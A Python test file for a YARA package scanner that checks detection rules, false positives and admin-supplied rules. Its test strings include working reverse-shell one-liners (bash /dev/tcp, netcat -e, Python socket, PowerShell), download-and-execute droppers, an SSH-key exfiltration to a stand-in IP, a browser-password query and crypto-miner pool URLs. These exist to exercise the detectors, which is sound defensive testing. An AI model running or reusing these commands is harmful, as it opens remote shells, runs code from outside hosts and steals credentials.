"""The YARA scanner: the shipped rules find every hostile case and nothing in the real packages;
admins' rules are compiled with them, and a broken one holds every scan, naming its file and line."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
import yara

from stockade.scanning.engine import scan_archive
from stockade.scanning.interfaces import Member, ScannerUnavailableError, ScanSubject, Verdict
from stockade.scanning.scanners.yara import (
    RuleSource,
    YaraScanner,
    rules_version,
    shipped_sources,
    validate_rules,
)
from tests.support.hostile import HostileCase, subject_for
from tests.support.hostile_yara import HOSTILE_YARA

ROOT = Path(__file__).resolve().parents[3]
PACKAGE_DIRS = [ROOT / "tests" / "data" / "packages"]  # the repository's copy (PROVENANCE.md)
YARA_CASES = [c for c in HOSTILE_YARA if c.scanner == "yara"]
SUBJECT = ScanSubject("demo-1.0-0.conda", "0" * 64, 1, "demo", "noarch", {})
ADMIN_RULE = """
rule acme_internal_marker
{
    meta:
        verdict = "suspicious"
        description = "the ACME leak marker"
    strings:
        $m = "ACME-INTERNAL-DO-NOT-SHIP"
    condition:
        $m
}
"""


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    return YaraScanner()


def _member(
    data: bytes, path: str = "lib/x.py", *, size: int = 0, truncated: bool = False
) -> Member:
    return Member(path=path, data=data, size=size or len(data), truncated=truncated)


def _real_packages() -> list[Path]:
    found = [
        path
        for folder in PACKAGE_DIRS
        if folder.is_dir()
        for path in sorted(folder.iterdir())
        if path.name.endswith((".conda", ".tar.bz2"))
    ]
    assert len(found) >= 40, "the repository's real packages are missing"
    return found


# --- the shipped rules ------------------------------------------------------------------------


def test_shipped_rules_compile_without_warnings() -> None:
    for source in shipped_sources():
        yara.compile(source=source.text, error_on_warning=True, includes=False)


def test_every_shipped_rule_has_a_verdict_a_description_and_a_hostile_case() -> None:
    covered = {case.rule for case in YARA_CASES}
    names = []
    for source in shipped_sources():
        for rule in yara.compile(source=source.text):
            names.append(rule.identifier)
            assert rule.meta.get("verdict") in ("malicious", "suspicious"), rule.identifier
            assert len(str(rule.meta.get("description", ""))) > 10, rule.identifier
            assert rule.identifier.startswith("stockade_"), rule.identifier
    assert len(names) >= 15
    assert {f"yara:{name}" for name in names} == covered


@pytest.mark.parametrize("case", YARA_CASES, ids=lambda c: c.name)
def test_hostile_package_is_found_with_its_rule(
    case: HostileCase, scanner: YaraScanner, tmp_path: Path
) -> None:
    path = case.build(tmp_path)
    report = scan_archive(path, subject_for(path), [scanner])
    assert not report.errors
    found = {f.rule: f for f in report.findings}
    assert case.rule in found, [f.rule for f in report.findings]
    finding = found[case.rule]
    assert finding.verdict == case.verdict
    assert finding.scanner == "yara"
    assert finding.member is not None
    assert not finding.member.startswith("info/")
    assert 0 < len(finding.evidence) <= 200
    assert finding.evidence.isprintable()
    assert finding.details["description"]
    assert report.verdict.rank >= case.verdict.rank


def test_no_finding_in_any_real_package(scanner: YaraScanner) -> None:
    """False-positive rate 0 over every real package of the repository's test data."""
    flagged = {}
    for path in _real_packages():
        subject = ScanSubject(path.name, "0" * 64, path.stat().st_size, path.name, "noarch", {})
        report = scan_archive(path, subject, [scanner])
        assert not report.errors, (path.name, report.errors)
        assert report.members > 0, path.name
        if report.findings:
            flagged[path.name] = [(f.rule, f.member, f.evidence) for f in report.findings]
    assert flagged == {}


@pytest.mark.parametrize(
    "text",
    [
        "# check the port: (echo > /dev/tcp/localhost/5432) && echo open\n",
        "import os\nos.dup2(fd, 1)  # redirect stdout to the log\n",
        "Run `nc -z host 80` to check the port.\n",
        "exec(open('version.py').read())\n",
        "data = base64.b64decode(payload)\nreturn json.loads(data)\n",
        "curl -L https://example.org/x.tar.gz -o /tmp/x.tar.gz && tar xf /tmp/x.tar.gz\n",
        "config = os.path.expanduser('~/.condarc')\nrequests.post(url, data=body)\n",
        "Mining pools are not supported. See docs/stratum.md.\n",
        "marshal.loads(data[16:])\n",
    ],
)
def test_ordinary_code_is_not_flagged(scanner: YaraScanner, text: str) -> None:
    assert list(scanner.scan_member(SUBJECT, _member(text.encode()))) == []


# --- what is scanned --------------------------------------------------------------------------


def test_only_the_first_max_bytes_of_a_member_are_scanned() -> None:
    limited = YaraScanner(max_bytes=4096)
    shell = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
    early = _member(shell + b"x" * 10_000)
    late = _member(b"x" * 10_000 + shell)
    [finding] = limited.scan_member(SUBJECT, early)
    assert finding.rule == "yara:stockade_revshell_bash_dev_tcp"
    assert finding.details["scanned_bytes"] == 4096
    assert finding.evidence.startswith("bash -i >& /dev/tcp/203.0.113.7/4444")
    assert list(limited.scan_member(SUBJECT, late)) == []


def test_a_truncated_member_says_how_much_was_scanned(scanner: YaraScanner) -> None:
    data = b"stratum+tcp://pool.example.net:3333\n"
    [finding] = scanner.scan_member(SUBJECT, _member(data, size=10**9, truncated=True))
    assert finding.details["scanned_bytes"] == len(data)


def test_evidence_is_one_short_printable_line(scanner: YaraScanner) -> None:
    data = b"\x00\x01" * 50 + b"\nexec(base64.b64decode('" + b"A" * 5000 + b"'))\n"
    found = {f.rule: f for f in scanner.scan_member(SUBJECT, _member(data))}
    finding = found["yara:stockade_obfuscated_exec_decoded"]
    assert finding.evidence.startswith("exec(base64.b64decode('AAAA")
    assert len(finding.evidence) <= 200
    assert finding.evidence.isprintable()


def test_the_scanner_is_shared_by_threads(scanner: YaraScanner) -> None:
    member = _member(b"x" * 100_000 + b"\nstratum+ssl://pool.example.net:443\n")
    results: list[list[str]] = []

    def work() -> None:
        for _ in range(20):
            results.append([f.rule for f in scanner.scan_member(SUBJECT, member)])

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results == [["yara:stockade_miner_stratum_url"]] * 80


def test_the_scanner_wants_every_member_and_has_nothing_to_add_at_the_end(
    scanner: YaraScanner,
) -> None:
    assert scanner.wants("info/index.json") and scanner.wants("lib/libfoo.so.1")
    assert list(scanner.finish(SUBJECT)) == []


# --- admins' rules ----------------------------------------------------------------------------


def test_admin_rules_are_compiled_with_the_shipped_ones(tmp_path: Path) -> None:
    (tmp_path / "acme.yar").write_text(ADMIN_RULE)
    (tmp_path / "notes.txt").write_text("not a rule file")
    scanner = YaraScanner.from_settings(tmp_path)
    assert scanner.error is None
    assert scanner.origins[-1] == str(tmp_path / "acme.yar")
    data = b"ACME-INTERNAL-DO-NOT-SHIP\nstratum+tcp://pool.example.net:1\n"
    found = {f.rule: f for f in scanner.scan_member(SUBJECT, _member(data))}
    assert set(found) == {"yara:acme_internal_marker", "yara:stockade_miner_stratum_url"}
    assert found["yara:acme_internal_marker"].verdict == Verdict.SUSPICIOUS
    assert found["yara:acme_internal_marker"].details["origin"] == str(tmp_path / "acme.yar")


def test_an_admin_rule_without_a_verdict_is_malicious(tmp_path: Path) -> None:
    (tmp_path / "plain.yara").write_text('rule plain { strings: $a = "ZZTOP-MARK" condition: $a }')
    [finding] = YaraScanner.from_settings(tmp_path).scan_member(SUBJECT, _member(b"ZZTOP-MARK"))
    assert (finding.rule, finding.verdict) == ("yara:plain", Verdict.MALICIOUS)


def test_an_admin_rule_may_reuse_a_shipped_rule_name(tmp_path: Path) -> None:
    (tmp_path / "dup.yar").write_text(
        'rule stockade_miner_stratum_url { strings: $a = "OTHER-MARK" condition: $a }'
    )
    scanner = YaraScanner.from_settings(tmp_path)
    assert scanner.error is None
    assert [f.rule for f in scanner.scan_member(SUBJECT, _member(b"OTHER-MARK"))] == [
        "yara:stockade_miner_stratum_url"
    ]


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("rule ok { condition: true }\n\nrule bad {\n  condition: $nope }\n", 4, "undefined"),
        ('rule bad { meta: verdict = "evil" condition: true }\n', 1, "meta verdict"),
        ('include "/etc/passwd"\nrule r { condition: true }\n', 1, "include"),
    ],
)
def test_a_broken_admin_rule_holds_every_scan_naming_its_file_and_line(
    tmp_path: Path, text: str, line: int, message: str
) -> None:
    (tmp_path / "a-good.yar").write_text(ADMIN_RULE)
    (tmp_path / "b-broken.yar").write_text(text)
    scanner = YaraScanner.from_settings(tmp_path)
    assert scanner.error is not None
    with pytest.raises(ScannerUnavailableError) as raised:
        list(scanner.scan_member(SUBJECT, _member(b"anything")))
    assert str(tmp_path / "b-broken.yar") in str(raised.value)
    assert f"line {line}" in str(raised.value)
    assert message in str(raised.value)
    with pytest.raises(ScannerUnavailableError):
        list(scanner.finish(SUBJECT))


def test_the_engine_holds_the_package_when_an_admin_rule_is_broken(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "x.yar").write_text("rule x { condition: }")
    path = YARA_CASES[0].build(tmp_path)
    report = scan_archive(path, subject_for(path), [YaraScanner.from_settings(rules)])
    assert report.failed
    assert "x.yar" in report.errors["yara"]


def test_a_missing_rules_folder_holds_every_scan(tmp_path: Path) -> None:
    scanner = YaraScanner.from_settings(tmp_path / "absent")
    with pytest.raises(ScannerUnavailableError, match="the folder cannot be read"):
        list(scanner.scan_member(SUBJECT, _member(b"x")))


def test_a_rule_file_that_is_not_utf8_is_named(tmp_path: Path) -> None:
    (tmp_path / "latin.yar").write_bytes(b'rule r { strings: $a = "\xe9" condition: $a }')
    with pytest.raises(ScannerUnavailableError, match=r"latin\.yar: not UTF-8"):
        list(YaraScanner.from_settings(tmp_path).scan_member(SUBJECT, _member(b"x")))


def test_validate_rules_for_an_add_operation() -> None:
    assert validate_rules(ADMIN_RULE) is None
    error = validate_rules('rule r {\n  strings: $a = "x"\n  condition: $b }\n', origin="new.yar")
    assert error is not None
    assert (error.origin, error.line) == ("new.yar", 3)
    assert str(error) == 'YARA rules new.yar, line 3: undefined string "$b"'
    assert validate_rules("rule { condition: true }") is not None


# --- version ----------------------------------------------------------------------------------


def test_version_changes_with_any_rule_and_with_yara(tmp_path: Path) -> None:
    shipped = shipped_sources()
    base = rules_version(shipped)
    assert base.startswith(f"{yara.__version__}-")
    assert rules_version(shipped) == base
    assert YaraScanner().version == base
    assert YaraScanner.from_settings(None).version == base
    edited = [RuleSource(shipped[0].origin, shipped[0].text + "\n"), *shipped[1:]]
    assert rules_version(edited) != base
    (tmp_path / "acme.yar").write_text(ADMIN_RULE)
    with_admin = YaraScanner.from_settings(tmp_path).version
    assert with_admin != base
    (tmp_path / "acme.yar").write_text(ADMIN_RULE.replace("ACME", "ACMF"))
    assert YaraScanner.from_settings(tmp_path).version not in (base, with_admin)


def test_rules_kept_elsewhere_are_compiled_after_the_folder(tmp_path: Path) -> None:
    (tmp_path / "acme.yar").write_text(ADMIN_RULE)
    extra = [
        RuleSource("rule db-marker", 'rule db_marker { strings: $a = "DB-MARK-9" condition: $a }')
    ]
    scanner = YaraScanner.from_settings(tmp_path, extra=extra)
    assert scanner.origins[-2:] == [str(tmp_path / "acme.yar"), "rule db-marker"]
    data = b"DB-MARK-9 ACME-INTERNAL-DO-NOT-SHIP"
    found = sorted(f.rule for f in scanner.scan_member(SUBJECT, _member(data)))
    assert found == ["yara:acme_internal_marker", "yara:db_marker"]
    assert scanner.version != YaraScanner.from_settings(tmp_path).version
    broken = YaraScanner.from_settings(None, extra=[RuleSource("rule bad", "rule bad {")])
    with pytest.raises(ScannerUnavailableError, match="rules rule bad: syntax error"):
        list(broken.scan_member(SUBJECT, _member(b"x")))


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
            "revshell_bash_dev_tcp",
        ),
        ('/bin/bash -c "bash -i > /dev/tcp/203.0.113.7/80 0<&1 2>&1"', "revshell_bash_dev_tcp"),
        ("ncat 203.0.113.7 4444 -e /bin/bash", "revshell_netcat_exec"),
        ("busybox nc 203.0.113.7 80 -e sh", "revshell_netcat_exec"),
        (
            'python3 -c \'import socket,os;s=socket.socket();s.connect(("203.0.113.7",1234));'
            'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("sh")\'',
            "revshell_python_socket_dup2",
        ),
        (
            "$c = New-Object System.Net.Sockets.TCPClient 203.0.113.7,80;$s = $c.GetStream();"
            "iex ([text.encoding]::ASCII.GetString($b))",
            "revshell_powershell_tcpclient",
        ),
        ('{"url": "stratum+ssl://pool.example.net:443"}', "miner_stratum_url"),
        ("xmrig --donate-level=1 -o pool.example.net:3333", "miner_xmrig_config"),
        ("eval(compile(base64.b64decode(x), '<string>', 'exec'))", "obfuscated_exec_decoded"),
        ("exec(bytes.fromhex('7072696e742831 29').decode())", "obfuscated_exec_decoded"),
        ("exec(codecs.decode('cevag(1)', 'rot13'))", "obfuscated_exec_decoded"),
        ("exec(zlib.decompress(b'x\\x9c+(\\xca\\xcc+'))", "obfuscated_exec_decoded"),
        ("exec(''.join(map(chr, [112, 114, 105])))", "obfuscated_exec_chr_join"),
        ("exec(bytes([112, 114, 105, 110, 116]))", "obfuscated_exec_chr_join"),
        ("f = types.FunctionType(marshal.loads(blob), globals())", "obfuscated_marshal_loads"),
        (
            "wget -q http://203.0.113.5/y -O /tmp/y; chmod 777 /tmp/y; /tmp/y &",
            "dropper_shell_tmp_exec",
        ),
        (
            "r = requests.get(U); p = '/tmp/.cache-x'\nopen(p, 'wb').write(r.content)\n"
            "os.chmod(p, stat.S_IEXEC | stat.S_IREAD)\nos.system(p)\n",
            "dropper_python_tmp_exec",
        ),
        (
            "(New-Object Net.WebClient).DownloadString('https://203.0.113.5/a.ps1') | iex",
            "dropper_powershell_download_exec",
        ),
        (
            "k = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
            "urllib.request.urlopen('https://203.0.113.9/k', data=k.encode())",
            "stealer_secret_file_exfil",
        ),
        (
            "c.execute('SELECT origin_url, username_value, password_value FROM logins')",
            "stealer_browser_passwords",
        ),
    ],
)
def test_variants_are_found(scanner: YaraScanner, text: str, rule: str) -> None:
    rules = [f.rule for f in scanner.scan_member(SUBJECT, _member(text.encode()))]
    assert f"yara:stockade_{rule}" in rules


def test_an_admin_global_rule_cannot_silence_the_shipped_rules(tmp_path: Path) -> None:
    (tmp_path / "mute.yar").write_text("global rule mute { condition: false }\n")
    scanner = YaraScanner.from_settings(tmp_path)
    data = b"stratum+tcp://pool.example.net:3333"
    assert [f.rule for f in scanner.scan_member(SUBJECT, _member(data))] == [
        "yara:stockade_miner_stratum_url"
    ]


def test_validate_rules_refuses_a_huge_file() -> None:
    error = validate_rules("// x\n" * 300_000, origin="big.yar")
    assert error is not None and "larger than" in str(error)
